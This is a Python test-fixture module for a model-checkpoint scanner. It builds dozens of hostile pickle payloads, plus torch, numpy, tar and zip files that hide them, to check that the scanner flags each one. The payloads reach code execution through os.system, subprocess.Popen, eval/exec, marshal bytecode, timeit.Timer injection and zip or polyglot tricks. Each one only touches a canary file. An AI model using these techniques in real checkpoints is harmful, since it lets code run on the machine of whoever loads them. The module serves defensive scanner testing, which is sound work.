"""Hostile pickles (built by hand or from classes with ``__reduce__``) and real torch files for the reader tests."""

from __future__ import annotations

import functools
import importlib
import operator
import os
import pickle
import random
import struct
import subprocess
from pathlib import Path
from typing import Any

import pytest

from ckptdoctor.findings import Finding

torch = pytest.importorskip("torch")


def _reducer(func: Any, args: tuple[Any, ...]) -> Any:
    class Evil:
        def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
            return func, args

    return Evil()


def _s(text: str) -> bytes:
    """A protocol-2 BINUNICODE string."""
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def hostile_payloads(canary: Path) -> dict[str, tuple[bytes, str]]:
    """name -> (pickle bytes whose loading would create ``canary``, the dangerous global it must report)."""
    touch = f"touch {canary}"
    code = f"open({str(canary)!r}, 'w').close()"
    p: dict[str, tuple[bytes, str]] = {
        "os.system": (pickle.dumps(_reducer(os.system, (touch,)), protocol=2), f"{os.name}.system"),
        "posix.system protocol 0": (f"cposix\nsystem\n(S'{touch}'\ntR.".encode(), "posix.system"),
        "subprocess.Popen": (
            pickle.dumps(_reducer(subprocess.Popen, (["touch", str(canary)],)), protocol=4),
            "subprocess.Popen",
        ),
        "builtins.eval": (pickle.dumps(_reducer(eval, (code,)), protocol=3), "builtins.eval"),
        "builtins.exec": (pickle.dumps(_reducer(exec, (code,)), protocol=5), "builtins.exec"),
        "__builtin__.eval (py2 name)": (f'c__builtin__\neval\n(S"{code}"\ntR.'.encode(), "builtins.eval"),
        "functools.partial": (
            pickle.dumps(_reducer(functools.partial(os.system, touch), ()), protocol=2),
            "functools.partial",
        ),
        "importlib + methodcaller": (
            pickle.dumps(
                _reducer(operator.methodcaller("system", touch), (_reducer(importlib.import_module, ("os",)),)),
                protocol=4,
            ),
            "importlib.import_module",
        ),
    }
    # getattr(__import__('os'), 'system')(touch), hand-built at protocol 2.
    p["getattr + __import__"] = (
        b"\x80\x02cbuiltins\ngetattr\ncbuiltins\n__import__\n" + _s("os") + b"\x85R" + _s("system") + b"\x86R"
        + _s(touch) + b"\x85R.",
        "builtins.__import__",
    )  # fmt: skip
    # STACK_GLOBAL whose module and name come from the memo, the name stored long before it is used.
    p["STACK_GLOBAL from memo"] = (
        b"\x80\x04\x8c\x06system\x94\x8c\x05posix\x94\x8c\x05dummy0h\x01h\x00\x93" + _s(touch) + b"\x85R.",
        "posix.system",
    )
    p["INST"] = (f"(S'{touch}'\nios\nsystem\n.".encode(), "os.system")
    p["OBJ"] = (f"(cos\nsystem\nS'{touch}'\no.".encode(), "os.system")
    p["NEWOBJ"] = (
        b"\x80\x02csubprocess\nPopen\n" + _s("touch") + _s(str(canary)) + b"\x86\x85\x81.",
        "subprocess.Popen",
    )
    p["NEWOBJ_EX"] = (
        b"\x80\x04\x8c\nsubprocess\x8c\x05Popen\x93(" + _s("touch") + _s(str(canary)) + b"l\x85}\x92.",
        "subprocess.Popen",
    )
    p["EXT1"] = (b"\x80\x02\x82\xf0" + _s(touch) + b"\x85R.", "<extension>.240")
    p["EXT4"] = (b"\x80\x02\x84\x00\x00\x01\x00" + _s(touch) + b"\x85R.", "<extension>.65536")
    # BUILD on an object whose class has __setstate__ (the real unpickler calls it with the state).
    p["BUILD __setstate__"] = (b"\x80\x02csubprocess\nPopen\n)\x81" + _s(touch) + b"b.", "subprocess.Popen")
    return p


def concatenated_payload(canary: Path) -> tuple[bytes, int]:
    """A harmless pickle followed by a hostile one (how legacy torch files chain pickles); second start offset."""
    first = pickle.dumps({"ok": 1}, protocol=2)
    return first + pickle.dumps(_reducer(os.system, (f"touch {canary}",)), protocol=2), len(first)


def deep_lists(n: int) -> bytes:
    """``[[[...]]]`` n levels deep, nested through the stack like pickle writes it."""
    return b"\x80\x02" + b"]" * n + b"a" * (n - 1) + b"."


def deep_tuples(n: int) -> bytes:
    """``((((),),),)`` n levels deep with a constant stack (TUPLE1 wraps the top item)."""
    return b"\x80\x02)" + b"\x85" * n + b"."


def deep_via_memo(n: int) -> bytes:
    """n empty lists chained by appending each to the previous through the memo: deep without a deep stack."""
    out = bytearray(b"\x80\x02")
    for i in range(n):
        out += b"]r" + struct.pack("<I", i) + b"0"
    for i in range(n - 1):
        out += b"j" + struct.pack("<I", i) + b"j" + struct.pack("<I", i + 1) + b"a0"
    out += b"j" + struct.pack("<I", 0) + b"."
    return bytes(out)


def shared_doubling(levels: int) -> bytes:
    """x0 = []; x(i+1) = [x(i), x(i)]: 2**levels paths through a linear number of nodes."""
    return pickle.dumps(functools.reduce(lambda acc, _: [acc, acc], range(levels), []), protocol=2)


def flip(data: bytes, rnd: random.Random, n: int) -> bytes:
    """``data`` with ``n`` random bytes overwritten."""
    b = bytearray(data)
    for _ in range(n):
        b[rnd.randrange(len(b))] = rnd.randrange(256)
    return bytes(b)


# ---------------------------------------------------------------------------------------------------------------
# Real files


def save_model_state(path: Path, *, legacy: bool = False) -> Any:
    """A real ``torch.save(model.state_dict())`` with a view and a tied tensor; returns the state dict."""
    import torch
    from torch import nn

    torch.manual_seed(0)
    model = nn.Sequential(nn.Linear(4, 3), nn.LayerNorm(3), nn.Linear(3, 2).to(torch.bfloat16))
    sd = model.state_dict()
    sd["view"] = sd["0.weight"][1:]
    sd["tied"] = sd["0.weight"]
    torch.save(sd, path, _use_new_zipfile_serialization=not legacy)
    return sd


def save_training_files(folder: Path) -> dict[str, Path]:
    """optimizer.pt, scheduler.pt, rng_state.pth and training_args.bin as the Trainer writes them."""
    import numpy as np
    import torch
    from torch import nn
    from transformers import TrainingArguments, get_linear_schedule_with_warmup

    torch.manual_seed(0)
    model = nn.Sequential(nn.Linear(4, 3), nn.Linear(3, 2))
    groups = [
        {"params": [p for n, p in model.named_parameters() if "weight" in n], "weight_decay": 0.01},
        {"params": [p for n, p in model.named_parameters() if "bias" in n], "weight_decay": 0.0},
    ]
    opt = torch.optim.AdamW(groups, lr=1e-3)
    sched = get_linear_schedule_with_warmup(opt, 2, 10)
    for _ in range(3):
        model(torch.randn(2, 4)).sum().backward()
        opt.step()
        sched.step()
        opt.zero_grad()
    out = {name: folder / name for name in ("optimizer.pt", "scheduler.pt", "rng_state.pth", "training_args.bin")}
    torch.save(opt.state_dict(), out["optimizer.pt"])
    torch.save(sched.state_dict(), out["scheduler.pt"])
    # transformers' Trainer._save_rng_state (single process, CPU).
    torch.save(
        {"python": random.getstate(), "numpy": np.random.get_state(), "cpu": torch.random.get_rng_state()},
        out["rng_state.pth"],
    )
    torch.save(TrainingArguments(output_dir=str(folder / "out"), learning_rate=3e-4), out["training_args.bin"])
    return out


def save_dcp(folder: Path) -> Path:
    """A real single-process ``torch.distributed.checkpoint.save`` of a model and an optimizer state dict."""
    import warnings

    import torch
    import torch.distributed.checkpoint as dcp
    from torch import nn

    torch.manual_seed(0)
    model = nn.Sequential(nn.Linear(4, 3), nn.Linear(3, 2))
    opt = torch.optim.AdamW(model.parameters(), lr=1e-3)
    model(torch.randn(2, 4)).sum().backward()
    opt.step()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        dcp.save({"model": model.state_dict(), "optimizer": opt.state_dict()}, checkpoint_id=str(folder))
    return folder


# ---------------------------------------------------------------------------------------------------------------
# The full corpus: one payload per technique of issue 7, each creating its canary when loaded the way its file is.


class Payload:
    """A hostile file: where it goes, its bytes, how a victim loads it, and what the report must name."""

    def __init__(self, name: str, filename: str, data: bytes, loader: str, expect: str, live: bool = True) -> None:
        self.name = name
        self.filename = filename  # path under a checkpoint folder; may contain sub-folders
        self.data = data
        self.loader = loader  # "pickle", "torch", "torch-slice:<start>:<end>", "none" (never loaded by anything)
        self.expect = expect  # substring of the CKD601/CKD605 message
        self.live = live  # False when loading cannot create the canary in this sandbox (nt.system, torch.jit)


def _g(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def _call(func: bytes, *args: bytes) -> bytes:
    return func + b"(" + b"".join(args) + b"tR"


def _sg(module: str, name: str) -> bytes:
    """STACK_GLOBAL from two strings (protocol 4)."""
    return _s(module) + _s(name) + b"\x93"


def _p2(body: bytes) -> bytes:
    return b"\x80\x02" + body + b"."


def _torch_zip(
    data_pkl: bytes, prefix: str = "archive", extra: dict[str, bytes] | None = None, method: int = 0
) -> bytes:
    """A zip laid out like torch.save's with ``data_pkl`` as its pickle (built with zipfile: stored records)."""
    import io
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as z:
        z.writestr(_entry(f"{prefix}/data.pkl"), data_pkl, compress_type=method)
        z.writestr(_entry(f"{prefix}/byteorder"), b"little", compress_type=method)
        for name, data in (extra or {}).items():
            z.writestr(_entry(name), data, compress_type=method)
        z.writestr(_entry(f"{prefix}/version"), b"3\n", compress_type=method)
    return out.getvalue()


def _entry(name: str) -> Any:
    """A zip entry with a fixed time: ``writestr(name)`` stamps the current time into the headers, and a pickle walk
    that runs on into them (the polyglot payloads) would meet different bytes, and report differently, each run."""
    import zipfile

    return zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))


def _zip(records: dict[str, bytes]) -> bytes:
    import io
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, data in records.items():
            z.writestr(_entry(name), data)
    return out.getvalue()


def corpus(canary: Path) -> list[Payload]:
    """Every technique: opcodes, names, call gadgets, nested pickles, containers and zip tricks."""
    import base64
    import marshal
    import pickle as pk

    c = str(canary)
    touch = f"touch {c}"
    code = f"open({c!r}, 'w').close()"
    system = _g("posix", "system")
    evil2 = _p2(_call(system, _s(touch)))  # os.system(touch), protocol 2
    out: list[Payload] = []

    def add(
        name: str, data: bytes, expect: str, filename: str = "payload.pkl", loader: str = "pickle", live: bool = True
    ) -> None:
        out.append(Payload(name, filename, data, loader, expect, live))

    # Protocols 0-5 through pickle itself.
    for proto in range(6):
        add(f"os.system protocol {proto}", pk.dumps(_reducer(os.system, (touch,)), protocol=proto), "system")
    for name, (data, expect) in hostile_payloads(canary).items():
        # EXT codes run only where copyreg.add_extension registered them (the live test does). NEWOBJ and BUILD of
        # Popen only allocate; live variants of those opcodes follow.
        dead = name in ("NEWOBJ", "NEWOBJ_EX", "BUILD __setstate__")
        add(name, data, "extension code" if name.startswith("EXT") else expect, live=not dead)
    # builtins gadgets
    add("builtins.open", _p2(_call(_g("builtins", "open"), _s(c), _s("w"))), "builtins.open")
    add(
        "builtins.compile + eval",
        _p2(_call(_g("builtins", "eval"), _call(_g("builtins", "compile"), _s(code), _s("x"), _s("exec")))),
        "builtins.compile",
    )
    add("nt.system protocol 0", f"cnt\nsystem\n(S'{touch}'\ntR.".encode(), "nt.system", live=False)
    add(
        "runpy._run_code",
        _p2(_call(_g("runpy", "_run_code"), _call(_g("builtins", "compile"), _s(code), _s("x"), _s("exec")), b"}")),
        "runpy._run_code",
    )
    os_mod = _call(_g("importlib", "import_module"), _s("os"))
    add(
        "attrgetter chain",
        _p2(_call(_call(_g("operator", "attrgetter"), _s("system")) + b"(" + os_mod + b"tR", _s(touch))),
        "operator.attrgetter",
    )
    dict_of_os = _call(_g("operator", "attrgetter"), _s("__dict__")) + b"(" + os_mod + b"tR"
    add(
        "itemgetter chain",
        _p2(_call(_call(_g("operator", "itemgetter"), _s("system")) + b"(" + dict_of_os + b"tR", _s(touch))),
        "operator.itemgetter",
    )
    # code and types constructors: a function built from marshalled bytecode, then called.
    func = _call(
        _g("types", "FunctionType"),
        _call(
            _g("marshal", "loads"), b"B" + struct.pack("<I", len(m := marshal.dumps(compile(code, "x", "exec")))) + m
        ),
        b"}",
    )
    add("types.FunctionType + marshal", _p2(func + b")R"), "types.FunctionType")
    codeobj = _call(_g("marshal", "loads"), b"B" + struct.pack("<I", len(m)) + m)
    add("NEWOBJ live", _p2(_g("types", "FunctionType") + b"(" + codeobj + b"}t\x81)R"), "types.FunctionType")
    add(
        "NEWOBJ_EX live",
        b"\x80\x04" + _g("types", "FunctionType") + b"(" + codeobj + b"}t}\x92)R.",
        "types.FunctionType",
    )
    ns = _call(_g("types", "SimpleNamespace"))
    add(
        "BUILD __setstate__ injection",
        _p2(ns + b"}" + _s("__setstate__") + system + b"sb" + _s(touch) + b"b"),
        "posix.system",
    )
    interp = _call(_g("code", "InteractiveInterpreter"))
    add(
        "code.InteractiveInterpreter",
        _p2(_call(_call(_g("operator", "methodcaller"), _s("runsource"), _s(code)) + b"(" + interp + b"tR")),
        "code.InteractiveInterpreter",
    )
    sock = _call(_g("socket", "socket"), b"K\x01K\x01")
    add(
        "socket bind",
        _p2(_call(_g("operator", "methodcaller"), _s("bind"), _s(c)) + b"(" + sock + b"tR"),
        "socket.socket",
    )
    add("pty.spawn", _p2(_call(_g("pty", "spawn"), b"(" + _s("touch") + _s(c) + b"l")), "pty.spawn")
    browser = _call(_g("webbrowser", "GenericBrowser"), b"(" + _s("touch") + _s(c) + b"l")
    add(
        "webbrowser",
        _p2(_call(_g("operator", "methodcaller"), _s("open"), _s("x")) + b"(" + browser + b"tR"),
        "webbrowser.GenericBrowser",
    )
    add("shutil.copyfile", _p2(_call(_g("shutil", "copyfile"), _s(__file__), _s(c))), "shutil.copyfile")
    path = _call(_sg("pathlib", "Path"), _s(c))
    add(
        "pathlib Path.write_text (attribute chain)",
        b"\x80\x04" + _call(_sg("pathlib", "Path.write_text"), path, _s("x")) + b".",
        "Path.write_text",
    )
    add(
        "attribute chain through an allowlisted module",
        b"\x80\x04" + _call(_sg("transformers.trainer_utils", "os.system"), _s(touch)) + b".",
        "os.system",
    )
    # Nested pickles.
    add("pickle.loads nested", _p2(_call(_g("pickle", "loads"), b"C" + bytes([len(evil2)]) + evil2)), "nested pickle")
    b64 = base64.b64encode(evil2).decode()
    add(
        "base64 nested",
        _p2(_call(_g("pickle", "loads"), _call(_g("base64", "b64decode"), _s(b64)))),
        "nested pickle: `posix.system`",
    )
    bio = _call(_g("io", "BytesIO"), b"C" + bytes([len(evil2)]) + evil2)
    add("numpy.load allow_pickle", _p2(_call(_g("numpy", "load"), bio, b"N\x88")), "numpy.load")
    blob = _torch_zip(evil2)
    zbio = _call(_g("io", "BytesIO"), b"B" + struct.pack("<I", len(blob)) + blob)
    partial = _g("functools", "partial") + b"(" + _g("torch", "load") + b"t}" + _s("weights_only") + b"\x89s\x92"
    add("torch.load nested zip", b"\x80\x04" + partial + b"(" + zbio + b"tR.", "nested pickle: `posix.system`")
    add(
        "torch.hub download",
        _p2(_call(_g("torch.hub", "download_url_to_file"), _s(f"file://{__file__}"), _s(c), b"N\x89")),
        "torch.hub",
    )
    add("torch.jit.load", _p2(_call(_g("torch.jit", "load"), _s(c))), "torch.jit", live=False)
    # Names computed at load time.
    glued = _call(_g("operator", "add"), _s("po"), _s("six"))
    add(
        "STACK_GLOBAL concatenated",
        b"\x80\x04" + glued + _s("system") + b"\x93" + b"(" + _s(touch) + b"tR.",
        "posix.system",
    )
    joined = _call(_sg("builtins", "str.join"), _s(""), b"(" + _s("sys") + _s("tem") + b"l")
    add("STACK_GLOBAL str.join", b"\x80\x04" + _s("posix") + joined + b"\x93(" + _s(touch) + b"tR.", "posix.system")
    add("persistent id hides a call", f"cposix\nsystem\n(S'{touch}'\ntRQ.".encode(), "posix.system")
    # Allowlisted callables that call their arguments.
    add(
        "copyreg._reconstructor calls its base",
        _p2(
            _call(
                _g("copyreg", "_reconstructor"),
                _g("subprocess", "Popen"),
                _g("subprocess", "Popen"),
                b"(" + _s("touch") + _s(c) + b"l",
            )
        ),
        "subprocess.Popen",
    )
    add(
        "_rebuild_from_type_v2 calls func",
        _p2(
            _call(
                _g("torch._tensor", "_rebuild_from_type_v2"),
                _g("posix", "system"),
                _g("torch", "Tensor"),
                b"(" + _s(touch) + b"t",
                b"}",
            )
        ),
        "posix.system",
    )
    # Files: by content whatever the name, DCP, torch zips and their tricks.
    add("renamed to config.json", evil2, "posix.system", filename="config.json")
    add(
        "protocol 0 renamed README.md",
        f"cposix\nsystem\n(S'{touch}'\ntR.".encode(),
        "posix.system",
        filename="README.md",
    )
    add(
        "DCP .metadata",
        b"\x80\x04" + _call(_sg("posix", "system"), _s(touch)) + b".",
        "posix.system",
        filename="pytorch_model_fsdp_0/.metadata",
    )
    add("torch zip", _torch_zip(evil2), "posix.system", filename="pytorch_model.bin", loader="torch")
    add(
        "zip: duplicate data.pkl",
        _torch_zip(_p2(b"}"), extra={"archive/data.pkl": evil2}),
        "duplicate zip records",
        filename="optimizer.pt",
        loader="none",
    )
    add(
        "zip: second pickle record",
        _torch_zip(_p2(b"}"), extra={"archive/extra.pkl": evil2}),
        "besides the one data.pkl",
        filename="optimizer.pt",
        loader="none",
    )
    add(
        "zip: record outside the archive folder",
        _torch_zip(_p2(b"}"), extra={"other/data.pkl": evil2}),
        "outside the archive folder",
        filename="scheduler.pt",
        loader="none",
    )
    add(
        "zip: compressed data.pkl",
        _torch_zip(evil2, method=8),
        "compressed record",
        filename="model.pt",
        loader="torch",
    )
    add(
        "zip: trailing data",
        _torch_zip(evil2) + b"\0" * 100,
        "after the zip end record",
        filename="a.pt",
        loader="torch",
    )
    add("zip: data in front (pickle polyglot)", evil2 + _torch_zip(_p2(b"}")), "posix.system", filename="polyglot.bin")
    mismatched = bytearray(_torch_zip(evil2))
    mismatched[30 : 30 + len("archive/data.pkl")] = b"archive/data.pkX"  # the local header names another file
    add(
        "zip: local header disagrees with central directory",
        bytes(mismatched),
        "disagree with the central",
        filename="b.pt",
        loader="torch",
    )
    add(
        "pickle inside a zip inside a folder",
        _zip({"x/payload.pkl": evil2, "notes.txt": b"hi"}),
        "posix.system",
        filename="extras/bundle.zip",
        loader="none",
    )
    inner = _torch_zip(evil2)
    add(
        "zip inside a zip",
        _torch_zip(_p2(b"}"), extra={"archive/inner.zip": inner}),
        "posix.system",
        filename="c.pt",
        loader="none",
    )
    return out


def container_payloads(canary: Path) -> list[Payload]:
    """A payload in every stream a loader unpickles, in every container: the legacy torch format's five streams,
    the legacy tar format's members, a pickle whose first bytes also read as a safetensors header, numpy
    object arrays (`.npy`, `.npz`, a `.npy` inside any zip), and a case-folded data.pkl.

    Loaders: "torch-path" is ``torch.load(path, weights_only=False)`` (a path, so the tar format is tried), "pickle"
    is ``pickle.load``, "numpy" is ``np.load(path, allow_pickle=True)`` with every array of an `.npz` accessed.
    """
    import io
    import pickle as pk
    import tarfile

    touch = f"touch {canary}"
    evil = _p2(_call(_g("posix", "system"), _s(touch)))
    magic, version = pk.dumps(0x1950A86A20F9469CFC6C, protocol=2), pk.dumps(1001, protocol=2)
    sys_info = pk.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {}}, protocol=2)
    obj, keys = pk.dumps({"a": 1}, protocol=2), pk.dumps([], protocol=2)
    out: list[Payload] = []

    def add(name: str, data: bytes, filename: str, loader: str) -> None:
        out.append(Payload(name, filename, data, loader, "posix.system"))

    add("legacy: protocol version stream", magic + evil + sys_info + obj + keys, "legacy1.bin", "torch-path")
    add("legacy: sys_info stream", magic + version + evil + obj + keys, "legacy2.pt", "torch-path")
    add("legacy: storage key stream", magic + version + sys_info + obj + evil, "legacy3.pth", "torch-path")

    def tar(members: dict[str, bytes]) -> bytes:
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
            for name, data in members.items():
                info = tarfile.TarInfo(name)
                info.size, info.mtime = len(data), 0
                t.addfile(info, io.BytesIO(data))
        return buf.getvalue()

    zero, views = pk.dumps(0, protocol=2), pk.dumps([], protocol=2)
    clean = {"storages": zero + views, "tensors": zero, "pickle": obj}
    add("tar: pickle member", tar({**clean, "pickle": evil}), "tar1.pt", "torch-path")
    add("tar: storages count stream", tar({**clean, "storages": evil + views}), "tar2.bin", "torch-path")
    add("tar: storage views stream", tar({**clean, "storages": zero + evil}), "tar3.ckpt", "torch-path")
    add("tar: tensors stream", tar({**clean, "tensors": evil}), "model.tar", "torch-path")
    # SHORT_BINSTRING whose text puts `{"` at byte 8: the sniffer's safetensors test matches, pickle.load runs it.
    body = _call(_g("posix", "system"), _s(touch))
    add("pickle read as safetensors", b'\x80\x02U\x0bxxxx{"a":1}0' + body + b".", "model.safetensors", "pickle")
    npy_obj = b"\x80\x02" + b"0".join([b"N", body]) + b"."
    add("npy object array", _npy("|O", (1,), npy_obj), "arrays.npy", "numpy")
    add("npz object array", _zip({"a.npy": _npy("<i8", (1,), b"\0" * 8), "b.npy": _npy("|O", (1,), npy_obj)}),
        "arrays.npz", "numpy")  # fmt: skip
    add("npy inside a torch zip (np.load reads it as an npz)", _torch_zip(_p2(b"}"), extra={"archive/x.npy":
        _npy("|O", (1,), npy_obj)}), "optimizer.pt", "numpy")  # fmt: skip
    # miniz finds `archive/data.pkl` case-insensitively: a protocol-0 DATA.PKL is what torch.load runs.
    legacy_case = _zip({"archive/DATA.PKL": f"cposix\nsystem\n(S'{touch}'\ntR.".encode(), "archive/version": b"3\n"})
    add("zip: data.pkl case-folded", legacy_case, "rng_state.pth", "torch-path")
    return out


def _npy(descr: str, shape: tuple[int, ...], body: bytes) -> bytes:
    """A version 1.0 `.npy` (numpy/lib/format.py layout): magic, header dict padded to 64 bytes, then ``body``."""
    header = repr({"descr": descr, "fortran_order": False, "shape": shape}).encode("latin-1")
    pad = 64 - (10 + len(header) + 1) % 64
    header += b" " * pad + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + body


def _t(*items: bytes) -> bytes:
    """A tuple of already pickled items (MARK ... TUPLE)."""
    return b"(" + b"".join(items) + b"t"


def class_call_payloads(canary: Path) -> list[Payload]:
    """Calls of classes of known packages (torch, numpy) and of functions that call a class they are handed: each
    creates ``canary`` under ``torch.load(weights_only=False)`` as ``training_args.bin`` (issue 22, item 1). A class
    proved by its package's source used to pass whatever the stream handed it."""
    c = str(canary)
    # timeit.Timer compiles and execs a template holding ``stmt``: a carriage return ends the template's line
    # without the indent timeit adds after each newline, so the code after it runs at the template's top level.
    stmt = f"pass\r__import__('os').system('touch {c}')\rdef _g(_it, _timer):\r    if 1:\r        pass"
    timer = _g("torch.utils.benchmark.utils.timer", "Timer")
    memmap_args = _s(c) + _s("uint8") + _s("w+") + b"K\x00" + b"K\x01\x85"  # numpy.memmap(path, mode="w+")
    handler = _g("torch.distributed.elastic.multiprocessing.subprocess_handler.subprocess_handler",
                 "SubprocessHandler")  # fmt: skip
    out = [
        ("Timer construction execs its statement", _p2(_call(timer, _s(stmt))), "timer.Timer"),
        (
            "Timer through the torch.utils.benchmark re-export (STACK_GLOBAL)",
            b"\x80\x04" + _sg("torch.utils.benchmark", "Timer") + _s(stmt) + b"\x85R.",
            "torch.utils.benchmark.Timer",
        ),
        ("numpy.memmap REDUCE creates and writes a file", _p2(_call(_g("numpy", "memmap"), memmap_args)), "memmap"),
        ("numpy.memmap NEWOBJ with arguments", _p2(_g("numpy", "memmap") + _t(memmap_args) + b"\x81"), "memmap"),
        (
            "numpy.memmap NEWOBJ_EX with keyword arguments",
            b"\x80\x04" + _sg("numpy", "memmap") + _t(_s(c)) + b"}(" + _s("mode") + _s("w+") + _s("shape")
            + b"K\x01\x85u\x92.",
            "memmap",
        ),
        ("numpy.memmap OBJ", b"\x80\x02(" + _g("numpy", "memmap") + memmap_args + b"o.", "memmap"),
        ("numpy.memmap INST", b"(" + memmap_args + b"inumpy\nmemmap\n.", "memmap"),
        (
            "sympy eval through a torch sympy function (FloorDiv)",
            _p2(_call(_g("torch.utils._sympy.functions", "FloorDiv"), _s(f"__import__('os').system('touch {c}')"),
                      b"K\x01")),
            "FloorDiv",
        ),
        (
            "copyreg._reconstructor calls the base it is handed",
            _p2(_call(_g("copyreg", "_reconstructor"), timer, timer, _s(stmt))),
            "timer.Timer",
        ),
        (
            "torch._tensor._rebuild_from_type_v2 calls the function it is handed",
            _p2(_call(_g("torch._tensor", "_rebuild_from_type_v2"), timer, _g("torch", "Tensor"), _t(_s(stmt)),
                      b"}")),
            "timer.Timer",
        ),
        (
            "a process from a multiprocessing module deep in torch",
            _p2(_call(handler, _s("/usr/bin/touch"), _t(_s(c)), b"}" + _s("PATH") + _s("/usr/bin:/bin") + b"s",
                      b"NNK\x00N")),
            "multiprocessing",
        ),
    ]
    return [Payload(name, "training_args.bin", _torch_zip(data), "torch", expect) for name, data, expect in out]


def slug(name: str) -> str:
    """A payload's name as a file or folder name."""
    return "".join(ch if ch.isalnum() else "_" for ch in name)


def dead(build: Any, tmp_path: Path, loader: str) -> list[str]:
    """Load every payload of ``build(canary)``, each made again with a canary of its own and written to
    ``tmp_path/<slug>/<filename>``, with the ``loader`` script in a child process (stdin: a JSON list of ``{"path",
    "loader"}``); returns the names of those whose canary was not created."""
    import json
    import sys

    items, expected = [], []
    for p in build(tmp_path / "unused"):
        canary = tmp_path / f"canary-{slug(p.name)}"
        again = {q.name: q for q in build(canary)}[p.name]
        path = tmp_path / slug(p.name) / again.filename
        path.parent.mkdir(parents=True)
        path.write_bytes(again.data)
        items.append({"path": str(path), "loader": again.loader})
        expected.append((p.name, canary))
    subprocess.run([sys.executable, "-c", loader], input=json.dumps(items).encode(), check=True, timeout=600,
                   capture_output=True, cwd=tmp_path)  # fmt: skip
    return [name for name, canary in expected if not canary.exists()]


def missed(findings: Any, placed: dict[str, Payload]) -> list[tuple[str, list[str]]]:
    """The placed payloads (path -> payload) without a CKD601 error naming what each must name, with what was found."""
    out = []
    for path, p in placed.items():
        hits = [f for f in findings if f.path == path]
        if not any(f.rule == "CKD601" and f.severity.name == "ERROR" and p.expect in f.message for f in hits):
            out.append((p.name, [f"{f.rule}: {f.message}" for f in hits]))
    return out


def _by_path(findings: tuple[Finding, ...]) -> dict[str, list[Finding]]:
    out: dict[str, list[Finding]] = {}
    for f in findings:
        out.setdefault(f.path, []).append(f)
    return out
